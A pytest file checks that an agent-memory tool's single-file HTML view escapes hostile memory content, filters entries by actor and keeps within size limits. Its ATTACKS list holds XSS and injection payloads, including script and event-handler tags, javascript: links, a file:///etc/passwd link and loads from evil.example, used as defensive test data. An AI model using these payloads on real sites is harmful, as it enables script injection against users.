"""The page: nothing of a hostile memory runs, everything is on it, and it stays small enough to be attached."""

import json
import re
import shutil
import subprocess
from datetime import date
from itertools import pairwise
from pathlib import Path

import pytest

from agent_memory_protocol import Actor, Memory, Workspace, view
from agent_memory_protocol.layout import Target, Tier
from agent_memory_protocol.view.html import LARGEST, LEAVES_OUT, single_file
from agent_memory_protocol.view.markdown import as_html
from agent_memory_protocol.view.page import gather
from tests.each_row import each_row

from .seen import Seen

TODAY = date(2026, 6, 1)
SHARED, DEV = Target(Tier.SHARED), Target(Tier.AGENT, "dev")
ATTACKS = [
    "<script>alert(1)</script>",
    "</code></pre></article><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "' autofocus onfocus='alert(1)",
    "</style><style>*{background:url(//evil.example)}</style>",
    "</title></head><body onload=alert(1)>",
    "--><!--<script>alert(1)//-->",
    "{{ 7 * 7 }}{% include 'x' %}",
    "[x](javascript:alert(1)) [y](<JaVaScRiPt:alert(1)>) [z](data:text/html,<script>1</script>)",
    "[x](java\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](vbscript:x) [f](file:///etc/passwd)",
    '<javascript:alert(1)> <https://evil.example/?q="onclick=x>',
    '[x](https://a.example "\' onmouseover=alert(1)") [x](//evil.example) [x](../../secret.md)',
    "![x](https://evil.example/pixel.png) ![y][z]",
    "| a | b |\n  |:-:|--:|\n  | <b onclick=x> | 2 |",
    "```html onclick=alert(1)\n  <script>alert(1)</script>\n  ```",
    "# A heading <script>",
    '<a href="https://evil.example" style="position:fixed">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt; \u202e\u200b\u2066x",
]


def page_of(here: Workspace, actor: Actor | None = None) -> str:
    return single_file(gather(here, actor or Actor(), TODAY)).decode()


@pytest.fixture
def here(tmp_path) -> Workspace:
    (tmp_path / "project").mkdir()
    made = Workspace.open(tmp_path / "project", environ={"HOME": str(tmp_path)})
    made.init(agents=["dev"])
    return made


def write(here: Workspace, target: Target, text: str, name: str = "") -> None:
    path = here.path / target.path
    path.parent.mkdir(parents=True, exist_ok=True)
    (path.with_name(name) if name else path).write_text(text, encoding="utf-8")


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("node") is None, reason="nothing here reads JavaScript")
def test_the_script_is_whole():
    script = Path(view.__file__).with_name("script.js")
    assert "</" not in script.read_text()
    assert subprocess.run(["node", "--check", script], capture_output=True, check=False).stderr == b""


@pytest.mark.slow
@pytest.mark.parametrize("first", range(4))
def test_nothing_of_a_hostile_memory_runs_or_loads(here, first):
    attacks = ATTACKS[first::4]
    text = "# A\n"
    for attack in attacks:
        line = " ".join(attack.split())
        text += f"\n# {line}\n\n## {line}\n\n{line}:\n\n- {attack}\n- [2026-05-01] {line} x\n- [disputed] {line} y\n"
    for target in (SHARED, DEV, Target(Tier.CONVERSATION, "c1")):
        write(here, target, text)
    here.remember("A fact that leaves.", tier=Tier.SHARED)
    (gone,) = (one.id for one in here.entries() if "leaves" in one.text)
    here.forget([gone])
    attack = "\n".join(attacks)
    line = " ".join(attack.split())
    header = "\n".join(f"{key}: {json.dumps(line)}" for key in ("name", "description", "type"))
    write(here, SHARED, f"---\n{header}\n---\n\n{attack}\n\n**Why:** {line}\n", "feedback_<b onclick=x>.md")
    ledger = (here.path / SHARED.path).with_name("ledger.jsonl")
    lines = ledger.read_text().splitlines()
    forged = {**json.loads(lines[-1]), "id": "0123456789ab", "reason": attack, "run": attack, "markdown": f"- {attack}"}
    ledger.write_text("\n".join([*lines, json.dumps(forged), ""]))

    html = page_of(here)

    Seen(html).check()
    assert "0123456789ab" in html
    assert not set("\u202e\u200b\u2066") & set(html)


def test_every_document_entry_note_finding_and_row_is_there_without_a_script(here):
    write(here, SHARED, "# S\n\n## Git\n\nNever:\n\n- push to main\n- [2020-01-01] an old fact\n- see `gone/away.py`\n")
    write(here, DEV, "# D\n\n- a fact of dev\n- [until 2026-06-05] a fact that ends soon\n- [until 2026-01-01] over\n")
    here.new_note("feedback", "tests", description="Run them.", why="They fail.", how="Run pytest.", target=SHARED)
    one, other = (entry.id for entry in here.entries()[:2])
    here.dispute(one, other, reason="both cannot be")
    here.remember("It leaves.", tier=Tier.SHARED)
    here.forget([next(entry.id for entry in here.entries() if "leaves" in entry.text)], reason="was wrong")
    with Memory(here.path / ".scaffolding" / "agent-memory", actor=Actor(), consolidate_every=0) as memory:
        memory.remember("The database is Postgres.")
        records = memory.records()

    page = gather(here, Actor(), TODAY, lambda: records)
    html = single_file(page).decode()
    seen = Seen(html)
    seen.check()

    articles = [one for tag, one in seen.elements if tag == "article"]
    assert [one["data-id"] for one in articles if "data-id" in one] == [entry.id for entry in here.entries()]
    for said in (
        *("shared", "agent:dev", "Never:", "both cannot be", "Run pytest.", "was wrong", "The database is Postgres."),
        *(" ".join(re.split("`", one.message)[0].split()) for one in page.findings),
        *(item.command for item in page.items),
        *("expiring within 30 days: 1", "(expired)", "disputed: 2", "an old fact"),
    ):
        assert said in " ".join(seen.said.split()), said
    assert page.findings
    assert page.items
    assert {"main", "header", "nav", "footer", "h1", "h2"} <= {tag for tag, _ in seen.elements}
    assert [one.get("lang") for tag, one in seen.elements if tag == "html"] == ["en"]
    named = {one["for"] for tag, one in seen.elements if tag == "label"}
    assert all(one["id"] in named for tag, one in seen.elements if tag == "input")
    levels = [int(tag[1]) for tag, _ in seen.elements if re.fullmatch("h[1-6]", tag)]
    assert all(after <= before + 1 for before, after in pairwise(levels))


@pytest.mark.slow
def test_what_a_reader_may_not_see_is_nowhere_on_the_page(here):
    for name in ("dev", "tester"):
        write(here, Target(Tier.AGENT, name), f"# M\n\n- secretly {name}\n- [2020-01-01] long ago {name}\n")
        here.new_note("user", "n", description=f"note {name}", why="w", how="h", target=Target(Tier.AGENT, name))
    write(here, Target(Tier.CONVERSATION, "c1"), "# C\n\n- in the conversation\n")
    here.forget([next(entry.id for entry in here.entries() if "secretly tester" in entry.text)])
    everything = page_of(here)
    for said in ("secretly dev", "secretly tester", "long ago tester", "note tester", "in the conversation"):
        assert said in everything

    html = page_of(here, Actor("dev"))

    assert "secretly dev" in html
    for said in ("tester", "in the conversation"):
        assert said not in html
    assert "in the conversation" in page_of(here, Actor("dev", "c1"))


@pytest.mark.slow
def test_what_recall_leaves_out_is_grey_and_what_it_gives_is_not(here):
    write(
        here, SHARED, "# S\n\n" + "".join(f"- [2026-05-{day:02}] fact {day} {'x' * 300}\n" for day in range(1, 31)) * 9
    )
    page = gather(here, Actor(), TODAY)
    (shared,) = (part for part in page.parts if part.target == SHARED)
    assert page.recall is not None
    left_out = {one.first_line for one in page.recall.left_out}
    assert left_out
    assert {card.entry.line for card in shared.cards if card.is_left_out} == left_out
    assert single_file(page).decode().count("Recall leaves this out.") == len(left_out) < len(shared.cards)


@pytest.mark.slow
@pytest.mark.parametrize("largest", [LARGEST, 60_000, 40_000])
def test_a_page_that_would_be_too_large_leaves_history_out_first_and_says_so(here, largest):
    here.remember("gone", tier=Tier.SHARED)
    here.forget([here.entries()[0].id])
    write(here, SHARED, "# S\n\n" + "".join(f"- fact {number} {'x' * 90}\n" for number in range(100)))
    page = gather(here, Actor(), TODAY)
    data = single_file(page, largest=largest)
    html = data.decode()
    left = [one for one in LEAVES_OUT if f"leaves out the {one}" in html]
    assert left == [*LEAVES_OUT[: len(left)]]
    assert ('id="history"' in html) == (not left)
    assert bool(left) == (len(single_file(page)) > largest)
    Seen(html).check()


@pytest.mark.slow
def test_one_shared_document_ten_agents_and_fifty_notes_at_their_limits_fit_into_two_megabytes(here):
    full = "# M\n\n" + "".join(f"- {'fact ' * 24}{number:05}\n" for number in range(198))
    assert 25_000 < len(full) < 25_600
    for number in range(10):
        write(here, Target(Tier.AGENT, f"agent-{number}"), full.replace("fact", f"a{number}ct"))
    write(here, SHARED, full)
    for number in range(50):
        write(here, SHARED, f"---\nname: n{number}\ntype: user\n---\n\n{'A note. ' * 500}\n", f"user_n{number}.md")
    data = single_file(gather(here, Actor(), TODAY))
    assert len(data) < LARGEST
    assert data.count(b"data-id=") == 11 * 198


@each_row(
    "text, html",
    [
        ("[a](https://a.example/b)", '<a href="https://a.example/b" rel="noopener noreferrer">a</a>'),
        ("[a](./user_b.md#c)", '<a href="#d1-n1">a</a>'),
        ("[a](elsewhere/b.md)", "<span>a (elsewhere/b.md)</span>"),
        ("![a](https://a.example/b.png)", '!<a href="https://a.example/b.png" rel="noopener noreferrer">a</a>'),
        ("# a", "<p>a</p>"),
        ("[a]: https://b", "<p>[a]: https://b</p>"),
        ("<b>a</b> & `<i>`", "<p>&lt;b&gt;a&lt;/b&gt; &amp; <code>&lt;i&gt;</code></p>"),
        ("[" * 60, f"<pre>{'[' * 60}</pre>"),
    ],
)
def test_a_link_leads_to_the_web_or_to_the_page_or_nowhere(text, html):
    assert html in as_html(text, {"user_b.md": "d1-n1"})


def test_a_memory_of_very_many_entries_is_not_judged_and_the_file_says_so(here):
    write(here, SHARED, "# S\n\n" + "".join(f"- [2020-01-01] Fact {number} holds.\n" for number in range(6)))
    judged, unjudged = (single_file(gather(here, Actor(), TODAY, most_judged=most)).decode() for most in (6, 5))
    assert 'id="check"' in judged
    assert 'id="check"' not in unjudged
    assert "With more than 5 entries this file leaves out what" in unjudged
    assert "Fact 5 holds." in unjudged
    Seen(unjudged).check()


@pytest.mark.slow
def test_a_part_that_fails_says_so_and_the_rest_is_there(here, monkeypatch, capsys):
    write(here, SHARED, "# S\n\n- A fact.\n")

    def fails(*_: object, **__: object) -> None:
        raise KeyError("a fault\nof two lines \x1b[31m")

    for verb in ("check", "review", "restorable", "notes", "recall", "usage", "left_out"):
        with monkeypatch.context() as broken:
            broken.setattr(Workspace, verb, fails)
            html = page_of(here)
        Seen(html).check()
        assert "A fact." in html
        assert "This could not be shown, which is a fault of amp: KeyError:" in html or verb == "usage"
    told = capsys.readouterr().err
    assert told
    assert "\x1b" not in told
    assert all(one.startswith("amp: view: ") for one in told.splitlines())
